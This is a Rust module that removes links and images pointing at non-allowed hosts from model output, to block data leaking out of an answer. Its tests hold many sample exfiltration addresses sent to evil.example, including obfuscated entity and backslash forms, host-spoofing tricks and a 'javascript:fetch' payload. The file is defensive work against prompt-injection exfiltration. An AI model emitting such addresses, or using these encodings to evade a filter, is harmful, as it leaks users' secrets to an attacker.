//! Links and images in what a model writes: whoever shows an answer fetches its images, and people follow its links, so an
//! address in it carries whatever the model was talked into putting there (egress; DESIGN 6).
//!
//! Addresses are found wherever a reader of Markdown or HTML could find one, not only where they are well formed: browsers take
//! `https:host`, backslashes and entities. What leads to a host that is not allowed is replaced; the words around it stay. One law
//! holds: a text in pieces gives what it gives whole, however it is cut. It holds by construction, since both go character by
//! character.

use std::collections::BTreeSet;
use std::sync::Arc;

/// What stands in the place of an address.
pub const REMOVED: &str = "[link removed]";
/// Bytes of a run without white space that are looked at together.
const RUN_MAX: usize = 2_048;
/// Bytes at the end of such a run that stay held back: what could be the beginning of an address.
const TAIL: usize = 256;
/// Schemes whose addresses browsers take without slashes (WHATWG URL, special schemes), and those that run something.
const SCHEMES: [&str; 9] =
    ["https:", "http:", "wss:", "ws:", "ftp:", "file:", "javascript:", "vbscript:", "mailto:"];
/// What ends an address in Markdown, HTML or prose.
const ENDS: [char; 11] = [')', ']', '>', '<', '"', '\'', '`', '|', '{', '}', ','];
/// Named entities that can hide the marks of an address.
const ENTITIES: [&str; 7] = ["&colon;", "&sol;", "&bsol;", "&period;", "&tab;", "&newline;", "&commat;"];

/// Takes addresses out of texts.
#[derive(Clone, Debug)]
pub struct Links {
    /// Hosts that may stay, in lower case.
    allowed: Arc<BTreeSet<String>>,
}

impl Links {
    /// Lets addresses at exactly these hosts stay.
    #[must_use]
    pub fn allowing<'a>(hosts: impl IntoIterator<Item = &'a str>) -> Self {
        Self { allowed: Arc::new(hosts.into_iter().map(str::to_ascii_lowercase).collect()) }
    }

    /// A whole text, and how many addresses were taken out of it.
    #[must_use]
    pub fn strip(&self, text: &str) -> (String, u64) {
        let mut stream = LinkStream::new(self.clone());
        let mut out = stream.feed(text);
        out.push_str(&stream.finish());
        (out, stream.count)
    }

    /// Whether an address that begins with `rest`, after its scheme and slashes, may stay.
    fn allows(&self, scheme: &str, rest: &str) -> bool {
        if !matches!(scheme, "https:" | "http:" | "www." | "//") {
            return false;
        }
        let authority = rest.split(['/', '\\', '?', '#']).next().unwrap_or_default();
        let host = authority.rsplit('@').next().unwrap_or_default();
        let host = host.split_once(':').map_or(host, |(host, _)| host).trim_end_matches('.');
        // Whatever is written otherwise than plainly is not looked at closely.
        host.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')
            && !authority.contains('@')
            && self.allowed.contains(&host.to_ascii_lowercase())
    }

    /// Replaces the addresses of one run without white space. `before` is the last character before it.
    fn run(&self, run: &str, before: char, out: &mut String) -> u64 {
        if let Some(plain) = decoded(run)
            && find(&plain, before).is_some()
        {
            out.push_str(REMOVED);
            return 1;
        }
        let (mut rest, mut before, mut count) = (run, before, 0);
        while let Some((at, scheme)) = find(rest, before) {
            let (head, address) = rest.split_at_checked(at).unwrap_or((rest, ""));
            out.push_str(head);
            // What is a program goes whole.
            let runs = matches!(scheme, "javascript:" | "vbscript:");
            let length = address.find(ENDS).filter(|_| !runs).unwrap_or(address.len());
            let (address, tail) = address.split_at_checked(length).unwrap_or((address, ""));
            let after = match scheme {
                "www." => address,
                _ => address.get(scheme.len()..).unwrap_or_default().trim_start_matches(['/', '\\']),
            };
            if self.allows(scheme, after) {
                out.push_str(address);
            } else {
                out.push_str(REMOVED);
                count += 1;
            }
            before = address.chars().next_back().unwrap_or(before);
            rest = tail;
        }
        out.push_str(rest);
        count
    }
}

/// The run with its entities decoded, where it has some that could hide an address.
fn decoded(run: &str) -> Option<String> {
    let lower = run.to_ascii_lowercase();
    if !lower.contains("&#") && !ENTITIES.iter().any(|name| lower.contains(name)) {
        return None;
    }
    let mut out = String::with_capacity(run.len());
    let mut rest = lower.as_str();
    while let Some((head, tail)) = rest.split_once('&') {
        out.push_str(head);
        let digits = tail.strip_prefix('#').map(|number| {
            let (number, radix) = number.strip_prefix('x').map_or((number, 10), |hex| (hex, 16));
            let length = number.find(|c: char| !c.is_digit(radix)).unwrap_or(number.len());
            let (digits, after) = number.split_at_checked(length).unwrap_or((number, ""));
            let decoded = u32::from_str_radix(digits, radix).ok().and_then(char::from_u32);
            (decoded, after.strip_prefix(';').unwrap_or(after))
        });
        let named = [("colon;", ':'), ("sol;", '/'), ("bsol;", '\\'), ("period;", '.'), ("commat;", '@')];
        rest = match digits {
            Some((decoded, after)) => {
                out.extend(decoded.filter(|c| !matches!(c, '\t' | '\n' | '\r')));
                after
            }
            None => match named.iter().find_map(|(name, c)| Some((tail.strip_prefix(name)?, c))) {
                Some((after, c)) => {
                    out.push(*c);
                    after
                }
                None => {
                    let after = tail.strip_prefix("tab;").or_else(|| tail.strip_prefix("newline;"));
                    if after.is_none() {
                        out.push('&');
                    }
                    after.unwrap_or(tail)
                }
            },
        };
    }
    out.push_str(rest);
    Some(out.to_ascii_lowercase())
}

/// Whether a host, or the slashes before one, can begin so.
fn begins(c: char) -> bool {
    c.is_alphanumeric() || "/\\[%".contains(c)
}

/// The first address of a run: where it begins, and with what.
fn find(run: &str, before: char) -> Option<(usize, &'static str)> {
    let lower = run.to_ascii_lowercase();
    let schemes = SCHEMES.iter().filter_map(|scheme| {
        let at = lower.match_indices(scheme).map(|(at, _)| at).find(|at| {
            let word = |c: char| c.is_ascii_alphanumeric();
            let goes_on = lower.get(at + scheme.len()..).and_then(|rest| rest.chars().next());
            // `the http: part` names no address, `myhttps://x` could still be read as one.
            goes_on.is_some_and(begins)
                && (lower.get(at + scheme.len()..).is_some_and(|rest| rest.starts_with(['/', '\\']))
                    || !lower.get(..*at).is_some_and(|head| head.ends_with(word)))
        })?;
        Some((at, *scheme))
    });
    let other = lower.find("://").and_then(|at| {
        let head = lower.get(..at)?;
        let scheme = head.rsplit(|c: char| !(c.is_ascii_alphanumeric() || "+-.".contains(c))).next()?;
        (!scheme.is_empty()).then(|| (at - scheme.len(), "any:"))
    });
    let www = lower.match_indices("www.").map(|(at, _)| at).find(|at| {
        !lower.get(..*at).is_some_and(|head| head.ends_with(|c: char| c.is_ascii_alphanumeric() || c == '.'))
    });
    let opens = |c: char| matches!(c, '(' | '<' | '"' | '\'' | '=' | ':');
    let bare = ["//", "\\\\", "/\\", "\\/"].iter().flat_map(|mark| lower.match_indices(mark)).filter_map(
        |(at, _)| {
            let previous = lower.get(..at).and_then(|head| head.chars().next_back()).unwrap_or(before);
            let host = lower.get(at..).and_then(|rest| rest.trim_start_matches(['/', '\\']).chars().next());
            (opens(previous) && host.is_some_and(begins)).then_some((at, "//"))
        },
    );
    // Of several marks at one place the scheme says most.
    let all = schemes.chain(other).chain(www.map(|at| (at, "www."))).chain(bare);
    all.min_by_key(|(at, scheme)| (*at, matches!(*scheme, "any:" | "//")))
}

/// Takes addresses out of one text that comes in pieces. At most a run without white space is held back.
#[derive(Debug)]
pub struct LinkStream {
    links: Links,
    held: String,
    /// The last character before what is held that is no white space.
    before: char,
    /// The rest of a run whose address was too long to be looked at is dropped as it comes.
    dropping: bool,
    count: u64,
}

impl LinkStream {
    /// Nothing seen yet.
    #[must_use]
    pub const fn new(links: Links) -> Self {
        Self { links, held: String::new(), before: ' ', dropping: false, count: 0 }
    }

    /// Takes the next piece and gives what can be released.
    pub fn feed(&mut self, piece: &str) -> String {
        let mut out = String::with_capacity(piece.len());
        for c in piece.chars() {
            if c.is_whitespace() {
                self.end(&mut out);
                out.push(c);
            } else if !self.dropping {
                self.held.push(c);
                if self.held.len() >= RUN_MAX {
                    self.cut(&mut out);
                }
            }
        }
        out
    }

    /// Ends the text and gives the rest.
    pub fn finish(&mut self) -> String {
        let mut out = String::new();
        self.end(&mut out);
        out
    }

    /// How many addresses were taken out so far.
    #[must_use]
    pub const fn count(&self) -> u64 {
        self.count
    }

    /// A run has ended.
    fn end(&mut self, out: &mut String) {
        self.dropping = false;
        if self.held.is_empty() {
            return;
        }
        let run = std::mem::take(&mut self.held);
        self.count += self.links.run(&run, self.before, out);
        self.before = run.chars().next_back().unwrap_or(self.before);
    }

    /// A run is too long to be held whole: what is no address goes on, an address goes.
    fn cut(&mut self, out: &mut String) {
        let hidden = decoded(&self.held).is_some_and(|plain| find(&plain, self.before).is_some());
        if hidden || find(&self.held, self.before).is_some() {
            out.push_str(REMOVED);
            self.count += 1;
            self.held.clear();
            self.dropping = true;
            return;
        }
        let mut at = self.held.len() - TAIL;
        while !self.held.is_char_boundary(at) {
            at -= 1;
        }
        let rest = self.held.split_off(at);
        self.before = self.held.chars().next_back().unwrap_or(self.before);
        out.push_str(&std::mem::replace(&mut self.held, rest));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn links() -> Links {
        Links::allowing(["docs.example.com", "localhost"])
    }

    #[test]
    fn pitfall_exfiltrating_links_and_images_lose_their_address_however_they_are_written() {
        for hostile in [
            "![x](https://evil.example/?q=secret)",
            "[click](http://evil.example/secret)",
            "![x](//evil.example/secret)",
            "![x]( //evil.example/secret )",
            "![x](<https://evil.example/secret>)",
            "![x][1]\n\n[1]: //evil.example/secret",
            "[1]: https://evil.example/secret 'title'",
            "<img src=\"https://evil.example/secret\">",
            "<img src=//evil.example/secret>",
            "<img src='\\\\evil.example/secret'>",
            "<img src=\"/\\evil.example/secret\">",
            "HTTPS://EVIL.EXAMPLE/secret",
            "https:evil.example/secret",
            "https:\\\\evil.example\\secret",
            "hxxp text http:/evil.example/secret",
            "see www.evil.example/secret",
            "xhttps://evil.example/secret",
            "![x](&#104;ttps://evil.example/secret)",
            "![x](&#x68;ttps&colon;&sol;&sol;evil.example/secret)",
            "<img src=\"ht&Tab;tps://evil.example/secret\">",
            "https://docs.example.com@evil.example/secret",
            "https://evil.example\\@docs.example.com/secret",
            "https://docs.example.com.evil.example/secret",
            "https://docs.example.com%2eevil.example/secret",
            "https://evil.example/https://docs.example.com/secret",
            "ftp://evil.example/secret",
            "custom+scheme://evil.example/secret",
            "javascript:fetch(`//evil.example/secret`)",
            "[a](mailto:secret@evil.example)",
            "https://docs.example.com/ok,https://evil.example/secret",
        ] {
            let (out, count) = links().strip(hostile);
            assert!(count > 0 && out.contains(REMOVED), "{hostile} -> {out}");
            let lower = out.to_ascii_lowercase();
            for mark in [
                "https:",
                "http:",
                "://",
                "www.",
                "//evil",
                "\\\\evil",
                "/\\evil",
                "mailto:",
                "&#",
                "javascript:",
            ] {
                assert!(
                    !lower.replace("https://docs.example.com/ok", "").contains(mark),
                    "{hostile} -> {out}"
                );
            }
        }
    }

    #[test]
    fn prose_code_and_what_is_allowed_stay_as_they_are() {
        for plain in [
            "Read https://docs.example.com/a?b=c#d, or http://localhost:8080/x.",
            "![logo](https://docs.example.com/logo.png) and https://DOCS.example.com./x",
            "a // comment, 1//2 and c:\\windows\\system32",
            "the ratio is 3:4; http: is a scheme, so is https:",
            "email ann@example.com at 12:30 — naïve 中文文本没有空格",
            "",
            "  \n\n ",
        ] {
            assert_eq!(links().strip(plain), (plain.to_owned(), 0));
        }
        let (out, _) = links().strip("before ![alt](https://evil.example/x) after");
        assert_eq!(out, format!("before ![alt]({REMOVED}) after"));
    }

    #[test]
    fn a_long_run_is_neither_held_for_ever_nor_a_way_around() {
        let mut stream = LinkStream::new(links());
        let mut out = String::new();
        for _ in 0..100 {
            out.push_str(&stream.feed(&"x".repeat(100)));
            assert!(stream.held.len() <= RUN_MAX);
        }
        out.push_str(&stream.finish());
        assert_eq!(out, "x".repeat(10_000));
        for before in [0, 1_000, RUN_MAX - 5, RUN_MAX, 3 * RUN_MAX] {
            let text = format!("{}https://evil.example/{} end", "-".repeat(before), "s".repeat(5_000));
            let (out, count) = links().strip(&text);
            assert!(
                !out.contains("evil") && !out.contains("sss") && out.ends_with(" end") && count == 1,
                "{before}"
            );
        }
    }

    proptest! {
        #[test]
        fn pieces_give_what_the_whole_gives(
            parts in proptest::collection::vec(prop_oneof![
                Just("https://evil.example/x".to_owned()), Just("![a](".to_owned()), Just("//evil".to_owned()), Just(" ".to_owned()),
                Just("https://docs.example.com/y".to_owned()), Just("&#104;ttps:".to_owned()), Just("é\n".to_owned()),
                "[a-z:/.&#;()<]{0,12}", Just("y".repeat(700)),
            ], 0..10),
            cuts in proptest::collection::vec(0_usize..4_000, 0..20),
        ) {
            let text = parts.concat();
            let mut cuts: Vec<usize> =
                cuts.into_iter().filter(|c| *c <= text.len() && text.is_char_boundary(*c)).collect();
            cuts.sort_unstable();
            let mut stream = LinkStream::new(links());
            let (mut out, mut from) = (String::new(), 0);
            for cut in cuts.into_iter().chain([text.len()]) {
                out.push_str(&stream.feed(text.get(from..cut).unwrap()));
                from = cut;
            }
            out.push_str(&stream.finish());
            let (whole, count) = links().strip(&text);
            prop_assert_eq!((&out, stream.count()), (&whole, count));
            // What stands in the path of an allowed address leads nowhere else.
            prop_assert!(text.contains("docs.example.com") || !whole.contains("evil.example"), "{}", whole);
        }
    }
}
